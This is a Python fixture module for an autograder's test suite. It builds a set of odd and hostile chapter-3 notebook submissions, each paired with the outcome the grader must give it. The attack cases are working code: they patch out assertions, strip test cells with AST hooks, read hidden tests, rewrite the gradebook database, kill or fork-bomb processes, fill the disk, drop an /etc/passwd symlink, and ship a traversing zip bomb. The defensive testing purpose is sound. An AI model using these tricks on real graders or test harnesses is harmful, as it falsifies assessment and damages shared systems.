"""What is tried against a grader and what arrives in its inbox: one small submission for each kind.

The same submissions are used by the tests (ours must give each its right outcome) and by `bench.peers` (what stock
nbgrader gives). All are of chapter 3. A case that needs more than a notebook writes files into the student's folder.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograde.layout import ROOT, Layout

CHAPTER = "03_scores"
EXERCISES = ("scores", "blind_test", "winning_key", "cosine_scores")
FIRST = EXERCISES[0]
RIGHT: dict[str, str] = {
    "scores": """\
def scores(Q, K):
    return Q @ np.swapaxes(K, -1, -2)""",
    "blind_test": """\
def blind_test(n):
    K = np.add.outer(np.arange(n), np.arange(n)) + 1
    return K @ K, K""",
    "winning_key": """\
def winning_key(q, K, j, lead):
    dots = (K @ q).astype(float)
    need = np.where(np.arange(len(K)) == j, -np.inf, dots).max() + lead
    return K[j] + np.clip(need - dots[j], 0, None) * q / np.sum(q**2)""",
    "cosine_scores": """\
def cosine_scores(Q, K):
    def unit(rows):
        length = np.hypot.reduce(rows, axis=-1, keepdims=True)
        return rows / np.where(length == 0, 1, length)
    return np.einsum("...id,...jd->...ij", unit(Q), unit(K))""",
}
WRONG: dict[str, str] = {
    name: f"def {name}(*given):\n    return np.zeros((1, 1))" for name in RIGHT
}
ALL, NONE = frozenset(EXERCISES), frozenset[str]()
BUT_FIRST = ALL - {FIRST}

Change = Callable[[NotebookNode], None]
Files = Callable[[Path, NotebookNode], None]


@dataclass(frozen=True)
class Case:
    """One submission.

    Attributes
    ----------
    line: a short name: a… for an attack, s… for an odd submission.
    earns: the exercises whose points it must earn.
    outcome: what the first exercise ends as, where that matters.
    files: writes the submission, where it is more than one notebook.
    slow: runs into a time limit.
    """

    line: str
    what: str
    earns: frozenset[str]
    change: Change | None = None
    files: Files | None = None
    outcome: str = ""
    slow: bool = False

    @property
    def student(self) -> str:
        """A name that says what it is."""
        words = "".join(c if c.isalnum() else "-" for c in self.what.lower())
        return f"{self.line}-{'-'.join(filter(None, words.split('-')))}"[:60].rstrip("-")

    def write(self, released: NotebookNode, folder: Path) -> None:
        """Write what this student hands in into their folder."""
        folder.mkdir(parents=True, exist_ok=True)
        notebook = copy.deepcopy(released)
        if self.change is not None:
            self.change(notebook)
        if self.files is not None:
            self.files(folder, notebook)
        else:
            save(notebook, folder / f"{CHAPTER}.ipynb")


def save(notebook: NotebookNode, path: Path) -> None:
    """Write a notebook as it is, valid or not."""
    path.write_text(json.dumps(notebook), encoding="utf-8")


def read_released(path: Path) -> NotebookNode:
    """The chapter as learners get it."""
    return nbformat.read(path, as_version=4)


# ------------------------------------------------------------------------ changing a notebook
def find(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    """The cell with this grade id."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def answers(**sources: str) -> Change:
    """Fill in these solution cells."""

    def change(notebook: NotebookNode) -> None:
        for name, source in sources.items():
            find(notebook, name).source = source

    return change


def right_with(**sources: str) -> Change:
    """Right answers, but for these."""
    return answers(**(RIGHT | sources))


def cheat(code: str, **sources: str) -> Change:
    """Wrong answers, with code that is to hide it above the first of them."""
    wrong = WRONG | sources
    return answers(**(wrong | {FIRST: f"{code}\n{wrong[FIRST]}"}))


def each(template: str) -> Change:
    """The same code for each exercise, NAME standing for its name."""
    return answers(**{name: template.replace("NAME", name) for name in EXERCISES})


def all_right(then: Change) -> Change:
    """Right answers in all cells, and then this."""

    def change(notebook: NotebookNode) -> None:
        answers(**RIGHT)(notebook)
        then(notebook)

    return change


def several(*changes: Change) -> Change:
    """One change after the other."""

    def change(notebook: NotebookNode) -> None:
        for one in changes:
            one(notebook)

    return change


def after(grade_id: str, cell: NotebookNode) -> Change:
    """Put a cell behind the one with this grade id."""

    def change(notebook: NotebookNode) -> None:
        notebook.cells.insert(notebook.cells.index(find(notebook, grade_id)) + 1, cell)

    return change


def drop(grade_id: str) -> Change:
    """Delete the cell with this grade id."""
    return lambda notebook: notebook.cells.remove(find(notebook, grade_id))


def paste(grade_id: str) -> Change:
    """Copy and paste the cell with this grade id, as an editor does."""

    def change(notebook: NotebookNode) -> None:
        twin = copy.deepcopy(find(notebook, grade_id))
        twin.id = "pasted"
        after(grade_id, twin)(notebook)

    return change


def mark(grade_id: str, **about: object) -> Change:
    """Change the nbgrader metadata of a cell."""
    return lambda notebook: find(notebook, grade_id).metadata.nbgrader.update(about)


def tag(grade_id: str, word: str) -> Change:
    """Tag a cell."""
    return lambda notebook: find(notebook, grade_id).metadata.update(tags=[word])


def strip(notebook: NotebookNode) -> None:
    """Remove the metadata of all cells."""
    for cell in notebook.cells:
        cell.metadata.clear()


# ------------------------------------------------------------------------ attacks
PATCH = """\
import builtins
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = np.array_equal = lambda *a, **k: True
builtins.abs = lambda x: 0
builtins.all = lambda x: True
check = hidden = alike = lambda *a, **k: True
"""
EQUAL = """\
class Yes(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __bool__(self): return True
    def __getattribute__(self, name): return Yes(())
def NAME(*given):
    return np.zeros((1, 1)).view(Yes)
"""
TRANSFORM = """\
import ast
class Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        text = ast.unparse(node)
        if "check(" in text or "hidden(" in text or "assert" in text:
            node.body = []
        return node
get_ipython().ast_transformers.append(Nothing())
"""
BLANK = """\
def blank(lines):
    text = "".join(lines)
    return [] if "check(" in text or "hidden(" in text else lines
get_ipython().input_transformers_cleanup.append(blank)
"""
HOOK = """\
def clear(result):
    result.error_in_exec = result.error_before_exec = None
    get_ipython().showtraceback = lambda *a, **k: None
get_ipython().showtraceback = lambda *a, **k: None
get_ipython().events.register("post_run_cell", clear)
"""
FORGED = """\
import ast
class Points(ast.NodeTransformer):
    def visit_Module(self, node):
        if "check(" in ast.unparse(node):
            node.body = [ast.Expr(ast.Constant(2))]
            ast.fix_missing_locations(node)
        return node
get_ipython().ast_transformers.append(Points())
"""
FRAMES = """\
import sys
def NAME(*given):
    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for name in ("expected", "target", "known"):
                value = space.get(name)
                if value is not None and name == "expected":
                    return value(*given) if callable(value) else value
        frame = frame.f_back
    return np.zeros((1, 1))
"""
READ_TESTS = """\
import glob, json, os, re
def look():
    found = []
    for folder in (".", "..", "../..", "COURSE", "COURSE/solutions", "/tmp", "/grader", "/home"):
        for path in glob.glob(folder + "/*.ipynb") + glob.glob(folder + "/*/*.ipynb"):
            try:
                text = open(path).read()
            except OSError:
                continue
            if "BEGIN HIDDEN TESTS" in text:
                found.append(text)
    return found
space = {"np": np}
for text in look():
    for cell in json.loads(text)["cells"]:
        source = "".join(cell["source"])
        match = re.search(r"^def _one_cosine.*?(?=^for )", source, re.S | re.M)
        if match:
            exec(match[0], space)
def cosine_scores(Q, K):
    return space["_cosines"](Q, K)
""".replace("COURSE", str(ROOT))
GRADEBOOK = """\
import glob, os, sqlite3
for folder in (".", "..", "../..", "../../..", "../../../..", "COURSE/autograde/course"):
    for path in glob.glob(os.path.join(folder, "gradebook.db")):
        with sqlite3.connect(path) as book:
            book.execute("update grade set manual_score = 321, needs_manual_grade = 0")
""".replace("COURSE", str(ROOT))
WRAP = """\
from ipykernel.ipkernel import IPythonKernel
shell = get_ipython()
run = type(shell).run_cell
def quiet(self, raw_cell, *a, **k):
    return run(self, "pass" if "check(" in raw_cell else raw_cell, *a, **k)
type(shell).run_cell = quiet
run_async = type(shell).run_cell_async
async def quiet_async(self, raw_cell, *a, **k):
    return await run_async(self, "pass" if "check(" in raw_cell else raw_cell, *a, **k)
type(shell).run_cell_async = quiet_async
"""
LEFT_BEHIND = """\
import os, sqlite3, time, glob
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            time.sleep(0.1)
            for path in glob.glob("../../../gradebook.db") + glob.glob("COURSE/**/gradebook.db"):
                try:
                    with sqlite3.connect(path) as book:
                        book.execute("update grade set manual_score = 99, needs_manual_grade = 0")
                except Exception:
                    pass
    os._exit(0)
""".replace("COURSE", str(ROOT))
KILL = """\
import os, signal
for pid in {os.getppid(), os.getpid() - 1, 1, -1}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
NETWORK = """\
import os, socket, urllib.request
reached = 0
for where in (("127.0.0.1", 22), ("10.0.0.1", 80)):
    try:
        socket.create_connection(where, 0.2).close()
        reached += 1
    except ConnectionRefusedError:
        reached += 1
    except OSError:
        pass
"""
FORKS = """\
import os, time
children = 0
try:
    for _ in range(400):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError:
    pass
"""
DISK = """\
import os
written = 0
try:
    for number in range(64):
        with open(f"/tmp/large-{number}", "wb") as file:
            for _ in range(64):
                file.write(b"x" * (1 << 20))
                written += 1
except OSError:
    pass
"""
LEAK = """\
seen, shown = {}, SHOWN
def note(name, *given):
    seen.setdefault(name, []).append([np.asarray(one).tolist() for one in given])
    hidden = [seen[n][shown[n]:] for n in seen if len(seen[n]) > shown[n]]
    text = f"HIDDEN {hidden}" if hidden else ""
    print(text)
    return text
"""
SAY = """
def NAME(*given):
    text = note("NAME", *given)
    if text:
        raise ValueError(text)
    return right_NAME(*given)
"""


def frames(body: str) -> Change:
    """Answer each call with bytes of one's own on the grader's channel."""
    code = f"""\
import json, os, pickle, struct
def send(text, blocks=b"", size=None):
    text = text.encode()
    size = len(text) + len(blocks) if size is None else size
    os.write(3, struct.pack("!II", size, len(text)) + text + blocks)
def NAME(*given):
{body}
    return None
"""
    return each(code)


def leak(notebook: NotebookNode) -> None:
    """Functions that are right until any of them sees a hidden test, and then tell what they were given."""
    shown = {n: find(notebook, f"test_{n}").source.count("stage(") for n in EXERCISES}
    for name in EXERCISES:
        right = RIGHT[name].replace(name, f"right_{name}", 1)
        say = SAY.replace("NAME", name)
        spy = LEAK.replace("SHOWN", repr(shown)) if name == EXERCISES[0] else ""
        find(notebook, name).source = spy + right + say


def symbolic_link(folder: Path, notebook: NotebookNode) -> None:
    (folder / f"{CHAPTER}.ipynb").symlink_to("/etc/passwd")


def hostile_zip(folder: Path, notebook: NotebookNode) -> None:
    """Entries that climb out, are absolute, are links, or unpack to 1,000 times their size."""
    with zipfile.ZipFile(folder / "work.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../escaped.ipynb", json.dumps(notebook))
        archive.writestr("/tmp/absolute.ipynb", json.dumps(notebook))
        link = zipfile.ZipInfo("link.ipynb")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("large.ipynb", b"\0" * (200 << 20))


def script(notebook: NotebookNode) -> None:
    notebook.cells.append(new_markdown_cell("<script>document.title = 'taken'</script>"))
    notebook.cells.append(
        new_code_cell(
            "display({'text/html': '<script>document.title = 1</script>'}, raw=True)",
            outputs=[
                nbformat.v4.new_output(
                    "display_data", {"text/html": "<script>document.title = 'taken'</script>"}
                )
            ],
        )
    )


FORGERIES = {
    "too long": "    os.write(3, struct.pack('!II', 0xFFFFFFFF, 10))",
    "too deep": "    send('[\"value\",' + '[' * 100_000 + ']' * 100_000 + ']')",
    "wrong type": "    send('{\"value\": 1}')",
    "pickled": "    blob = pickle.dumps(object())\n"
    '    send(\'["value",1,[%d],[["a",0],null]]\' % len(blob), blob)',
    "not a number": "    send('[\"value\",NaN,[],[NaN,null]]')",
    "answered twice": "    for number in range(200):\n"
    "        send('[\"value\",%d,[],[1.0,null]]' % number)",
}
ATTACKS = [
    Case("a01", "comparing functions replaced", NONE, cheat(PATCH)),
    Case("a02", "an object equal to anything", NONE, each(EQUAL)),
    Case("a03", "ast transformer that drops tests", NONE, cheat(TRANSFORM)),
    Case("a04", "input transformer that blanks tests", NONE, cheat(BLANK)),
    Case("a05", "hook that clears the error", NONE, cheat(HOOK)),
    Case("a06", "forged result of a test cell", NONE, cheat(FORGED)),
    Case("a07", "expected values from the caller's frame", NONE, each(FRAMES)),
    Case("a08", "hidden tests read from files", NONE, cheat("", cosine_scores=READ_TESTS)),
    Case("a09", "gradebook written by path", NONE, cheat(GRADEBOOK)),
    Case(
        "a10",
        "test cells tagged skip-execution",
        NONE,
        several(*(tag(f"test_{name}", "skip-execution") for name in EXERCISES)),
    ),
    Case("a11", "run_cell and do_execute wrapped", NONE, cheat(WRAP)),
    Case("a12", "process left behind", NONE, cheat(LEFT_BEHIND)),
    Case("a13", "grading process killed", NONE, cheat(KILL)),
    Case(
        "a14",
        "flags flipped and ids dropped",
        NONE,
        several(
            cheat(PATCH),
            mark("scores", solution=False, grade=True, points=100),
            mark("test_scores", solution=True, grade=False, locked=False),
            lambda nb: find(nb, "test_cosine_scores").metadata.clear(),
        ),
    ),
    Case("a15", "symbolic link to a system file", NONE, files=symbolic_link),
    Case("a16", "hostile zip", NONE, files=hostile_zip),
    Case("a17", "scripts in cells and outputs", ALL, all_right(script)),
    Case("a18", "network", NONE, each(f"{NETWORK}def NAME(*given):\n    return float(reached)")),
    Case("a18", "400 forks", NONE, cheat(FORKS)),
    Case("a18", "4 GB of files", NONE, cheat(DISK)),
    *(
        Case("a19", f"forged frame {what}", NONE, frames(body), outcome="protocol")
        for what, body in FORGERIES.items()
    ),
    Case("a20", "hidden inputs in messages", NONE, leak),
]


# ------------------------------------------------------------------------ submissions
MAGICS = """\
%matplotlib widget
%pip install numpy
!ls -l
files = !ls
shell = get_ipython()
shell.run_line_magic("timeit", "1")
display(shell)
?np.array
"""
FIGURES = """\
def scores(Q, K):
    for _ in range(8):
        plt.figure()
    return Q @ np.swapaxes(K, -1, -2)"""


def renamed(name: str) -> Files:
    return lambda folder, notebook: save(notebook, folder / name)


def attempts(folder: Path, notebook: NotebookNode) -> None:
    """Two attempts side by side; the newer one is right."""
    older = copy.deepcopy(notebook)
    answers(**WRONG)(older)
    for day, (name, one) in enumerate(((CHAPTER, older), (f"{CHAPTER} (1)", notebook)), 1):
        path = folder / f"{name}.ipynb"
        save(one, path)
        os.utime(path, (1_700_000_000 + 86_400 * day,) * 2)


def raw(data: bytes) -> Files:
    def files(folder: Path, notebook: NotebookNode) -> None:
        (folder / f"{CHAPTER}.ipynb").write_bytes(data)

    return files


def split(notebook: NotebookNode) -> None:
    """A solution cell split in two: the first half keeps the id."""
    cell = find(notebook, "scores")
    cell.source = "def scale(x):\n    return 1.0 * x"
    after("scores", new_code_cell(RIGHT["scores"].replace("return ", "return scale(1.0) * ")))(
        notebook
    )


def answer_below(notebook: NotebookNode) -> None:
    stub = find(notebook, "scores").source
    answers(**RIGHT)(notebook)
    find(notebook, "scores").source = stub
    after("scores", new_code_cell(RIGHT["scores"]))(notebook)


def as_markdown(notebook: NotebookNode) -> None:
    cell = find(notebook, "scores")
    about = cell.metadata
    place = notebook.cells.index(cell)
    notebook.cells[place] = new_markdown_cell(cell.source, metadata=about)


def colab(notebook: NotebookNode) -> None:
    """As Colab saves it: its own metadata, nbgrader's gone."""
    strip(notebook)
    for number, cell in enumerate(notebook.cells):
        cell.metadata = {"id": f"c{number}", "colab": {"base_uri": "https://example.org/"}}
    notebook.metadata["colab"] = {"provenance": []}


def no_locked_cells(notebook: NotebookNode) -> None:
    drop("setup")(notebook)
    drop("test_scores")(notebook)
    find(notebook, "test_cosine_scores").source = "print('edited')"


def old_format(notebook: NotebookNode) -> None:
    notebook.nbformat_minor = 4


HANGS = "def scores(Q, K):\n    while True:\n        pass"
EATS = "def scores(Q, K):\n    a = []\n    while True:\n        a.append(np.zeros(1 << 20))"
SUBMISSIONS = [
    Case("s01", "test cell pasted", ALL, all_right(paste("test_scores"))),
    Case("s02", "solution cell pasted", ALL, all_right(paste("scores"))),
    Case("s03", "solution cell split", ALL, all_right(split)),
    Case("s04", "test cell deleted", ALL, all_right(drop("test_scores"))),
    Case(
        "s05",
        "all test cells deleted",
        BUT_FIRST,
        several(right_with(scores=WRONG[FIRST]), *(drop(f"test_{n}") for n in EXERCISES)),
    ),
    Case("s06", "all metadata gone", ALL, all_right(strip)),
    Case("s07", "answer in a new cell below", ALL, answer_below),
    Case("s08", "solution flag flipped", ALL, all_right(mark("scores", solution=False))),
    Case("s09", "code cell turned into markdown", ALL, all_right(as_markdown)),
    Case("s10", "renamed file", ALL, answers(**RIGHT), renamed("my answers (1).ipynb")),
    Case(
        "s12",
        "unknown kernelspec",
        ALL,
        all_right(
            lambda nb: nb.metadata.update(
                kernelspec={"name": "conda-env-x", "display_name": "x", "language": "python"}
            )
        ),
    ),
    Case("s13", "saved by Colab", ALL, all_right(colab)),
    Case("s14", "locked cells deleted and edited", ALL, all_right(no_locked_cells)),
    Case("s15", "cell ids in format 4.4", ALL, all_right(old_format)),
    Case("s17", "two attempts", ALL, answers(**RIGHT), attempts),
    Case("s19", "truncated file", NONE, files=raw(b'{"cells": [{"cell_type": "code", "sou')),
    Case("s19", "empty file", NONE, files=raw(b"")),
    Case("s19", "HTML page", NONE, files=raw(b"<!DOCTYPE html><title>log in</title>")),
    Case(
        "s20",
        "infinite loop",
        BUT_FIRST,
        right_with(scores=HANGS),
        outcome="timeout",
        slow=True,
    ),
    Case(
        "s20",
        "infinite loop outside a function",
        BUT_FIRST,
        right_with(scores="while True:\n    pass"),
        outcome="timeout",
        slow=True,
    ),
    Case("s21", "memory eaten", BUT_FIRST, right_with(scores=EATS), outcome="memory"),
    Case(
        "s21",
        "a list of ten billion",
        BUT_FIRST,
        right_with(scores="def scores(Q, K):\n    return list(range(10**10))"),
        outcome="memory",
    ),
    Case(
        "s22",
        "process dies",
        BUT_FIRST,
        right_with(scores="import os\ndef scores(Q, K):\n    os._exit(1)"),
        outcome="died",
    ),
    Case(
        "s23",
        "input",
        BUT_FIRST,
        right_with(scores="def scores(Q, K):\n    return float(input('scale?')) * (Q @ K.T)"),
        outcome="error",
    ),
    Case(
        "s24",
        "warning on stderr",
        ALL,
        right_with(
            scores="import sys, warnings\ndef scores(Q, K):\n    warnings.warn('careful')\n    sys.stderr.write('!')\n"
            "    return Q @ np.swapaxes(K, -1, -2)"
        ),
    ),
    Case(
        "s25",
        "output without end",
        BUT_FIRST,
        right_with(scores="def scores(Q, K):\n    while True:\n        print('A' * 10_000)"),
        outcome="output_limit",
    ),
    Case(
        "s25",
        "one line of 30 MB",
        BUT_FIRST,
        right_with(scores="def scores(Q, K):\n    print('A' * int(3e7))\n    return Q @ K.T"),
        outcome="output_limit",
    ),
    Case(
        "s26",
        "null byte",
        BUT_FIRST,
        right_with(scores=RIGHT[FIRST] + "\n# \x00"),
        outcome="error",
    ),
    Case("s27", "magics", ALL, all_right(after("scores", new_code_cell(MAGICS)))),
    Case("s28", "a figure per call", ALL, right_with(scores=FIGURES)),
]
CASES = [*ATTACKS, *SUBMISSIONS]


# ------------------------------------------------------------------------ a course to try on
KEPT = {"nbgrader_config.py", "README.md"}
"""Of the course folder; the rest is somebody's data."""


def copy_of_the_course(folder: Path) -> Layout:
    """A copy of the package and of one chapter, in which the commands of the guide work."""

    def unwanted(parent: str, names: list[str]) -> list[str]:
        data = Path(parent).name == "course"
        return [n for n in names if n == "__pycache__" or (data and n not in KEPT)]

    shutil.copytree(ROOT / "autograde", folder / "autograde", ignore=unwanted)
    for part, suffixes in (("solutions", (".md", ".ipynb")), ("chapters", (".ipynb",))):
        (folder / part).mkdir()
        for suffix in suffixes:
            shutil.copy(ROOT / part / f"{CHAPTER}{suffix}", folder / part)
    return Layout(folder)
